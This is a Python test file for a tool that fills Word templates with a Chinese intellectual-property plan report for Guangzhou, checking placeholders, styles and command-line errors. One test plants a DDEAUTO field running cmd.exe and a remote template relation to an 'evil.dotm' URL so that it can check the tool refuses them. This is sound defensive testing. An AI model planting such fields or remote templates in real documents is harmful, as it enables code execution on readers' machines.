"""An office's template: placeholders filled in its styles, what is not known named, what could run refused."""

from io import BytesIO
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from ipplan.cli import app
from ipplan.model.notes import Slot
from tests.support.reports import guangzhou

docx = pytest.importorskip("docx", reason="python-docx is not installed: pip install '.[office]'")
pytest.importorskip("resvg_py", reason="resvg-py is not installed: pip install '.[office]'")


def template(*texts: str) -> Any:
    """Build a template with a header and a paragraph for each text, a placeholder in pieces."""
    document = docx.Document()
    document.sections[0].header.paragraphs[0].text = "内部资料 {{organisation}}"
    for text in texts:
        paragraph = document.add_paragraph()
        for piece in (text[:3], text[3:]):
            paragraph.add_run(piece)
    return document


def content_of(document: Any) -> bytes:
    """Return a document as a file."""
    held = BytesIO()
    document.save(held)
    return held.getvalue()


def filled(document: Any) -> Any:
    """Fill a template with the report of Guangzhou."""
    from ipplan.render.report.official.document import Cover
    from ipplan.render.report.official.template import fill

    report = guangzhou("zh")._replace(notes={Slot(2023, "plan", "", "problems"): "人才<b>不足。"})
    return fill(content_of(document), report, Cover("市知识产权局", "2024-06-30"), "standard")


def test_filled() -> None:
    """Text, tables and notes stand where the placeholders stood, between what the office wrote."""
    from docx.oxml.ns import qn

    made = filled(
        template("{{title}}", "（{{date}}）", "前言", "{{overview}}", "中间", "{{notes.problems}}", "{{table}}", "结尾")
    )
    assert (made.unknown, made.active, made.missing) == ((), "", ())
    document = docx.Document(BytesIO(made.content))
    assert document.sections[0].header.paragraphs[0].text == "内部资料 市知识产权局"
    texts = ["".join(t.text for t in p.iter(qn("w:t"))) for p in document.element.body.iter(qn("w:p"))]
    assert texts[:3] == ["《广州市知识产权保护和运用“十四五”规划》实施情况中期评估报告", "（2024年6月30日）", "前言"]
    between = texts[texts.index("前言") + 1 : texts.index("中间")]
    assert between == [point.text for point in guangzhou("zh").summary]
    assert texts[texts.index("中间") + 1] == "人才<b>不足。"
    assert texts[-1] == "结尾"
    assert len(document.tables) == 1
    assert document.core_properties.author == "市知识产权局"
    assert not any("{{" in text for text in texts)


def test_missing_styles_are_named() -> None:
    """A template without a style still gives a document, and the style is named."""
    document = template("{{indicators}}")
    style = document.styles["Heading 3"]
    style.element.getparent().remove(style.element)
    assert filled(document).missing == ("Heading 3",)


def test_unknown_places_are_named() -> None:
    """A placeholder that is not known is refused by its name."""
    assert filled(template("{{title}} {{nonsense}}")).unknown == ("nonsense",)


def test_nothing_runs() -> None:
    """Fields that fetch or run something, and relations to elsewhere, are refused."""
    from docx.oxml import OxmlElement

    document = template("{{title}}")
    code = OxmlElement("w:instrText")
    code.text = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'
    document.paragraphs[0].runs[0]._r.append(code)
    assert "DDEAUTO" in filled(document).active
    document = template("{{title}}")
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    document.part.relate_to("http://example.com/evil.dotm", kind, is_external=True)
    assert "attachedTemplate" in filled(document).active


def test_command(tmp_path: Path) -> None:
    """The option fills a template, and says what does not fit."""
    office, out = tmp_path / "office.docx", tmp_path / "r.docx"
    office.write_bytes(content_of(template("{{title}}", "{{tally}}")))
    line = ["report", "guangzhou", "-a", "examples/guangzhou-2023.csv", "--lang", "zh", "--template", str(office)]
    assert CliRunner().invoke(app, [*line, "-o", str(out)]).exit_code == 0
    assert docx.Document(str(out)).paragraphs[0].text == "" or out.stat().st_size > 1000
    for option, said in ((["-o", str(tmp_path / "r.md")], "只用于 Word"), (["-o", str(out)], "不认识的填写处 x")):
        office.write_bytes(content_of(template("{{x}}")))
        result = CliRunner().invoke(app, [*line, *option])
        assert result.exit_code == 2
        assert said in result.stderr
    office.write_text("no document")
    result = CliRunner().invoke(app, [*line, "-o", str(out)])
    assert (result.exit_code, "读不出来" in result.stderr) == (2, True)
